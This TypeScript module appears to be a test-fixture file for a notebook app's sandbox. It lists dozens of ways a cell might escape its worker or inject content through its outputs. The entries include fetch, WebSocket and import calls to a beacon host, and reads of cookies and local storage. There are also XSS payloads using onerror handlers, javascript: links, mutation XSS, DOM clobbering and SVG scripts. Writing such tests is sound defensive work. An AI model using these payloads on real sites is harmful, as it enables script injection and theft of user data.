/**
 * Ways out of the place in which cells run, and out of what they put out. `BEACON` is the address of
 * a server that counts who asks it.
 *
 * @module
 */

/** What a cell tries from inside its worker; a value that is not undefined is a way out. */
export const FROM_INSIDE: Readonly<Record<string, string>> = {
  "fetch": `return (await fetch(BEACON + "fetch")).status`,
  "fetch without asking": `await fetch(BEACON + "no-cors", { mode: "no-cors" })`,
  "fetch that outlives": `await fetch(BEACON + "keepalive", { keepalive: true, method: "POST" })`,
  "fetch of a Request": `await fetch(new Request(BEACON + "request", { mode: "no-cors" }))`,
  "fetch by a trick": `String.prototype.startsWith = () => true; await fetch(BEACON + "trick")`,
  "fetch of the prototype":
    `await Object.getPrototypeOf(self).fetch?.call(self, BEACON + "prototype") ?? no()`,
  "XMLHttpRequest": `await new Promise((good, bad) => {
    const ask = new XMLHttpRequest();
    ask.onload = good; ask.onerror = bad;
    ask.open("GET", BEACON + "xhr"); ask.send();
  })`,
  "XMLHttpRequest at once":
    `const ask = new XMLHttpRequest(); ask.open("GET", BEACON + "sync", false); ask.send()`,
  "WebSocket": `await new Promise((good, bad) => {
    const socket = new WebSocket(BEACON.replace("http", "ws") + "socket");
    socket.onopen = good; socket.onerror = bad;
  })`,
  "WebSocketStream": `await new WebSocketStream(BEACON.replace("http", "ws") + "stream").opened`,
  "EventSource": `await new Promise((good, bad) => {
    const events = new EventSource(BEACON + "events");
    events.onopen = good; events.onerror = bad;
  })`,
  "WebTransport": `await new WebTransport(BEACON.replace("http", "https") + "transport").ready`,
  "sendBeacon": `return navigator.sendBeacon(BEACON + "beacon") || undefined`,
  "importScripts": `importScripts(BEACON + "scripts.js")`,
  "importScripts of data": `importScripts("data:text/javascript,self.out=1"); return self.out`,
  "import": `await import(BEACON + "module.js")`,
  "import by eval": `await (0, eval)("import('" + BEACON + "evaluated.js')")`,
  "import by Function": `await new Function("return import('" + BEACON + "function.js')")()`,
  "import of data": `await (0, eval)("import('data:text/javascript,export default 1')")`,
  "import of a blob": `
    const blob = new Blob(["export default fetch('" + BEACON + "blob')"], { type: "text/javascript" });
    await (await (0, eval)("import('" + URL.createObjectURL(blob) + "')")).default`,
  "text for a timer": `setTimeout("fetch('" + BEACON + "timer')"); await later()`,
  "worker of a blob": `
    const blob = new Blob(["fetch('" + BEACON + "worker')"], { type: "text/javascript" });
    new Worker(URL.createObjectURL(blob)); await later()`,
  "worker of data": `
    new Worker("data:text/javascript,fetch('" + BEACON + "data-worker')"); await later()`,
  "worker of another host": `new Worker(BEACON + "worker.js"); await later()`,
  "shared worker": `new SharedWorker(BEACON + "shared.js"); return "started"`,
  "service worker": `await navigator.serviceWorker.register(BEACON + "service.js"); return "there"`,
  "caches that fetch": `const kept = await caches.open("x"); await kept.add(BEACON + "cache")`,
  "caches of the page": `return (await caches.keys()).join()`,
  "indexedDB": `return await new Promise((good, bad) => {
    const ask = indexedDB.open("flowbook"); ask.onsuccess = () => good("opened"); ask.onerror = bad;
  })`,
  "localStorage": `return localStorage.getItem("secret") ?? undefined`,
  "sessionStorage": `return sessionStorage.getItem("secret") ?? undefined`,
  "cookies": `return document.cookie`,
  "cookieStore": `return (await cookieStore.getAll()).map(String).join() || undefined`,
  "private files": `await navigator.storage.getDirectory(); return "opened"`,
  "locks": `return (await navigator.locks.query()).held.length || undefined`,
  "channel of the page": `await new Promise((good, bad) => {
    const channel = new BroadcastChannel("secret");
    channel.onmessage = good; channel.postMessage("ask"); setTimeout(bad, 200);
  }); return "heard"`,
  "the page's names": `return parent.document.title`,
  "the top": `top.location = BEACON + "top"; await later()`,
  "the opener": `opener.location = BEACON + "opener"`,
  "its own address": `location.href = BEACON + "location"; await later()`,
  "streaming WebAssembly": `await WebAssembly.compileStreaming(fetch(BEACON + "wasm"))`,
  "a font": `const face = new FontFace("f", "url(" + BEACON + "font)"); await face.load()`,
  "a notification": `new Notification("x", { icon: BEACON + "icon" }); await later()`,
  "a picture": `new Image().src = BEACON + "image"; await later()`,
  "a frame": `document.body.append(document.createElement("iframe"))`,
  "window.open": `open(BEACON + "open"); await later()`,
  "a place of a stack": `(0, eval)("throw new Error()\\n//# sourceMappingURL=" + BEACON + "map")`,
  "messages to the frame":
    `for (const kind of ["load", "fetch", "import", "binary", "open", "run"]) {
    postMessage({ kind, url: BEACON + "message", name: BEACON + "message", path: "../../x" });
  }
  await later()`,
};

/** What a cell puts out, by its type; the page must show it without asking anybody. */
export const IN_OUTPUTS: readonly (readonly [name: string, type: string, value: unknown])[] = [
  ["img", "text/html", `<img src="BEACONimg" srcset="BEACONset 2x" onerror="steal()">`],
  ["script", "text/html", `<script src="BEACONscript"></script><script>steal()</script>`],
  ["iframe", "text/html", `<iframe src="BEACONframe" srcdoc="<script>parent.steal()</script>">`],
  ["object", "text/html", `<object data="BEACONobject"></object><embed src="BEACONembed">`],
  [
    "link",
    "text/html",
    `<link rel="stylesheet" href="BEACONcss"><link rel="prefetch" href="BEACONp">`,
  ],
  [
    "meta",
    "text/html",
    `<meta http-equiv="refresh" content="0;url=BEACONmeta"><base href="BEACON">`,
  ],
  [
    "style",
    "text/html",
    `<style>@import "BEACONimport"; body { background: url(BEACONbody) }</style>`,
  ],
  ["style of one", "text/html", `<p style="background-image: url(BEACONinline)">x</p>`],
  [
    "form",
    "text/html",
    `<form action="BEACONform"><button autofocus onfocus="steal()">x</button></form>`,
  ],
  [
    "media",
    "text/html",
    `<video src="BEACONv" poster="BEACONposter" autoplay></video><audio src="BEACONa">`,
  ],
  ["table", "text/html", `<table background="BEACONtable"><tr><td>x</td></tr></table>`],
  ["details", "text/html", `<details open ontoggle="steal()"><summary>x</summary></details>`],
  ["clobbering", "text/html", `<a id="engine" name="location"></a><form id="document"></form>`],
  ["mutation", "text/html", `<math><mtext><table><mglyph><style><img src=x onerror=steal()>`],
  [
    "svg script",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>`,
  ],
  [
    "svg image",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="BEACONsvg"/><use href="BEACONuse#x"/></svg>`,
  ],
  [
    "svg style",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(BEACONsvgcss);</style>
      <rect style="fill: url(BEACONfill)" width="9" height="9" onload="steal()"/></svg>`,
  ],
  [
    "svg page",
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml"
      src="BEACONforeign"/></foreignObject><animate attributeName="href" values="BEACONanimate"/></svg>`,
  ],
  ["markdown picture", "text/markdown", `![x](BEACONmarkdown) <img src="BEACONinmarkdown">`],
  ["markdown script", "text/markdown", `<script>steal()</script> [x](javascript:steal())`],
  ["formula", "text/latex", `$\\includegraphics{BEACONlatex}\\href{javascript:steal()}{x}$`],
  ["png that is none", "image/png", `x" onerror="steal()" src="BEACONpng`],
  ["error in colours", "text/plain", `<img src=BEACONplain onerror=steal()>`],
  ["map of Plotly", "application/vnd.plotly.v1+json", {
    data: [{ type: "scattergeo", lon: [0], lat: [0] }],
    layout: { geo: { scope: "world" } },
  }],
  ["tiles of Plotly", "application/vnd.plotly.v1+json", {
    data: [{ type: "scattermap", lon: [0], lat: [0] }],
    layout: { map: { style: "BEACONtiles" } },
  }],
  ["picture of Plotly", "application/vnd.plotly.v1+json", {
    data: [{ type: "scatter", x: [1], y: [1] }],
    layout: { images: [{ source: "BEACONplotly", x: 0, y: 1, sizex: 1, sizey: 1 }] },
  }],
  ["text of Plotly", "application/vnd.plotly.v1+json", {
    data: [{ type: "scatter", x: [1], y: [1], text: `<img src=BEACONtext onerror=steal()>` }],
    layout: { title: { text: `<a href="javascript:steal()">x</a><img src=BEACONtitle>` } },
  }],
  ["trace of pictures", "application/vnd.plotly.v1+json", {
    data: [{ type: "image", source: "BEACONsource" }],
    layout: {},
  }],
];
